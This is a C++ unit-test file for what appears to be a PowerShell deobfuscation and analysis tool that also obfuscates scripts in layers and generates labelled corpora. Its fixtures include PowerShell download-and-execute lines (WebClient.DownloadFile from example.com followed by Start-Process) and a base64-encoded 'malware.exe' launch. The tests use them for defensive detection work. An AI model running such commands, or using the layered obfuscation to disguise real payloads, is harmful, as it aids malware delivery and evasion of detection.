#include "doctest.h"

#include "psdeob/cli.hpp"
#include "psdeob/detector.hpp"
#include "psdeob/obfuscator.hpp"
#include "psdeob/pipeline.hpp"

#include "json.hpp"

#include <filesystem>
#include <fstream>
#include <sstream>

namespace fs = std::filesystem;
using namespace psdeob;

namespace {

struct CliRun {
    int code;
    std::string out;
    std::string err;
};

CliRun cli(std::vector<std::string> args, const std::string& stdin_text = {}) {
    std::istringstream in(stdin_text);
    std::ostringstream out, err;
    const int code = run_cli(args, in, out, err);
    return {code, out.str(), err.str()};
}

std::string fixture(const std::string& rel) { return (fs::path(PSDEOB_FIXTURES) / rel).string(); }

}  // namespace

TEST_CASE("obfuscation is deterministic and never Clean") {
    const ScriptText s = ScriptText::from_text("(New-Object Net.WebClient).DownloadFile('http://example.com/a.exe', 'a.exe')");
    for (auto t : kAllTechniques) {
        CAPTURE(to_string(t));
        const ScriptText a = obfuscate(s, t, 42);
        CHECK(a.content == obfuscate(s, t, 42).content);
        CHECK_FALSE(detect_layer(a).layer.is_clean());
    }
    ObfuscateOptions fixed;
    fixed.randomize = false;
    CHECK(obfuscate(ScriptText::from_text("Start-Process \"malware.exe\""), TechniqueTag::Base64Encoding, 1, fixed).content ==
          "U3RhcnQtUHJvY2VzcyAibWFsd2FyZS5leGUi");
    CHECK_THROWS_AS(obfuscate(ScriptText::from_text("$x"), TechniqueTag::Concatenation, 1), NotApplicable);
    CHECK_THROWS_AS(obfuscate(ScriptText::from_text("ls"), TechniqueTag::BinaryEncoding, 1), NotApplicable);
}

TEST_CASE("layer spec parsing") {
    const auto layers = parse_layer_spec("string:reorder+tick+concat>binary>deflate");
    REQUIRE(layers.size() == 3);
    CHECK(layers[0].techniques ==
          std::vector<TechniqueTag>{TechniqueTag::Reordering, TechniqueTag::Tick, TechniqueTag::Concatenation});
    CHECK(layers[1].layer == LayerType::encoded(LayerType::Encoding::Binary));
    CHECK(layers[2].layer == LayerType::compressed(LayerType::Compression::Deflate));
    CHECK(parse_layer_spec(format_layer_spec(layers)) == layers);
    CHECK_THROWS_AS(parse_layer_spec(""), std::invalid_argument);
    CHECK_THROWS_AS(parse_layer_spec("rot13"), std::invalid_argument);
    CHECK_THROWS_AS(obfuscate_layers(ScriptText::from_text("ls"), {}, 1), std::invalid_argument);

    std::mt19937_64 rng(3);
    for (int i = 0; i < 200; ++i) {
        const auto stack = random_stack(rng);
        CHECK(stack.size() >= 1);
        CHECK(stack.size() <= 3);
        for (std::size_t j = 1; j < stack.size(); ++j) CHECK(stack[j].layer != LayerType::string_based());
        CHECK(parse_layer_spec(format_layer_spec(stack)) == stack);
    }
}

TEST_CASE("analysis of a stacked sample") {
    const ScriptText orig =
        ScriptText::from_text("(New-Object Net.WebClient).DownloadFile('http://example.com/a.exe', 'a.exe'); Start-Process 'a.exe'");
    const auto [sample, label] = obfuscate_layers(orig, parse_layer_spec("string:case+eval>base64>gzip"), 9);
    const AnalysisReport r = analyze(sample, FetchPolicy{});
    CHECK(r.status == AnalysisStatus::Complete);
    REQUIRE(r.stages.size() == 3);
    CHECK(r.stages[0].layer == LayerType::compressed(LayerType::Compression::Gzip));
    CHECK(r.stages[1].layer == LayerType::encoded(LayerType::Encoding::Base64));
    CHECK(r.stages[2].layer == LayerType::string_based());
    CHECK(r.stages[2].stage_index == 3);
    CHECK(token_equivalent(r.final_script.content, orig.content));
    CHECK(r.pattern == BehavioralPattern::DownExec);
    CHECK(label.outer() == r.stages[0].layer);
}

TEST_CASE("analysis limits and aborts") {
    CHECK_THROWS_AS(analyze(ScriptText::from_text("ls"), FetchPolicy{}, 0), std::invalid_argument);
    const ScriptText orig = ScriptText::from_text("Start-Process 'calc.exe'; Write-Output 'done'");
    const auto [sample, label] = obfuscate_layers(orig, parse_layer_spec("base64>deflate>base64"), 4);
    const AnalysisReport limited = analyze(sample, FetchPolicy{}, 2);
    CHECK(limited.status == AnalysisStatus::Aborted);
    CHECK(abort_kind(limited) == "LayerLimitExceeded");
    CHECK_FALSE(limited.pattern.has_value());

    const AnalysisReport broken = analyze(ScriptText::from_text("Start-Process ('x'"), FetchPolicy{});
    CHECK(abort_kind(broken) == "SyntaxError");
    CHECK(broken.stages.empty());

    const AnalysisReport clean = analyze(orig, FetchPolicy{});
    CHECK(clean.stages.empty());
    CHECK(clean.final_script.content == orig.content);
}

TEST_CASE("corpus aggregation is independent of parallelism") {
    const GeneratedCorpus gen = generate_corpus(60, 77);
    std::vector<ScriptText> inputs;
    for (const auto& s : gen.samples) inputs.push_back(s.script);
    const CorpusStats one = analyze_corpus(inputs, FetchPolicy{}, 1);
    const CorpusStats many = analyze_corpus(inputs, FetchPolicy{}, 6);
    CHECK(one == many);
    CHECK(stats_to_json(one) == stats_to_json(many));
    CHECK(one.total == 60);
    CHECK_THROWS_AS(analyze_corpus(inputs, FetchPolicy{}, 0), std::invalid_argument);

    std::size_t stage_sum = 0;
    for (const auto& [n, c] : one.stage_counts) stage_sum += n * c;
    std::size_t layer_sum = 0;
    for (const auto& [t, c] : one.layer_types) layer_sum += c;
    CHECK(stage_sum == layer_sum);
}

TEST_CASE("report JSON") {
    const AnalysisReport r = analyze(ScriptText::from_text("U3RhcnQtUHJvY2VzcyAibWFsd2FyZS5leGUi", "b64"), FetchPolicy{});
    const auto j = nlohmann::json::parse(report_to_json(r));
    CHECK(j["sha256"] == r.sha256);
    CHECK(j["status"] == "Complete");
    CHECK(j["stages"].size() == 1);
    CHECK(report_to_json(r) == report_to_json(r));
    const auto meta = nlohmann::json::parse(report_meta_json(r, 0.5, "0.1.0"));
    CHECK(meta["version"] == "0.1.0");
}

TEST_CASE("cli analyze") {
    const CliRun ok = cli({"analyze", fixture("golden_base64.ps1")});
    CHECK(ok.code == exit_code::kComplete);
    CHECK(ok.out.find("Stage 1: Encoded/Base64") != std::string::npos);
    CHECK(ok.out.find("Start-Process \"malware.exe\"") != std::string::npos);

    const CliRun bad = cli({"analyze", fixture("broken.ps1")});
    CHECK(bad.code == exit_code::kAborted);
    CHECK((bad.out + bad.err).find("SyntaxError: unbalanced paren at offset 45") != std::string::npos);

    const CliRun stdin_run = cli({"analyze", "-", "--json", "-"}, "Start-Process ('a'+'b.exe')");
    CHECK(stdin_run.code == exit_code::kComplete);
    const auto pos = stdin_run.out.find('{');
    REQUIRE(pos != std::string::npos);
    CHECK(nlohmann::json::parse(stdin_run.out.substr(pos))["status"] == "Complete");

    const CliRun raw = cli({"analyze", fixture("patterns/downexec.ps1"), "--raw-iocs"});
    const CliRun def = cli({"analyze", fixture("patterns/downexec.ps1")});
    CHECK(raw.out.find("http://") != std::string::npos);
    CHECK(def.out.find("hxxp://") != std::string::npos);
}

TEST_CASE("cli usage errors") {
    CHECK(cli({}).code == exit_code::kUsage);
    CHECK(cli({"analyze"}).code == exit_code::kUsage);
    CHECK(cli({"analyze", "/nonexistent/x.ps1"}).code == exit_code::kUsage);
    CHECK(cli({"frobnicate"}).code == exit_code::kUsage);
    CHECK(cli({"gen", (fs::temp_directory_path() / "psdeob_unit_bad").string(), "--layer-spec", "nope"}).code ==
          exit_code::kUsage);
}

TEST_CASE("cli gen writes labels that match the samples") {
    const fs::path dir = fs::temp_directory_path() / "psdeob_unit_gen";
    fs::remove_all(dir);
    const CliRun g = cli({"gen", dir.string(), "--count", "12", "--seed", "5", "--layer-spec", "string:tick>gzip"});
    REQUIRE(g.code == 0);
    std::ifstream in(dir / "labels.json");
    const auto labels = nlohmann::json::parse(in);
    CHECK(labels.size() == 12);
    for (const auto& [file, l] : labels.items()) {
        CHECK(fs::exists(dir / file));
        CHECK(l["spec"] == "string:tick>gzip");
        CHECK(l["layers"].size() == 2);
    }
    fs::remove_all(dir);
}
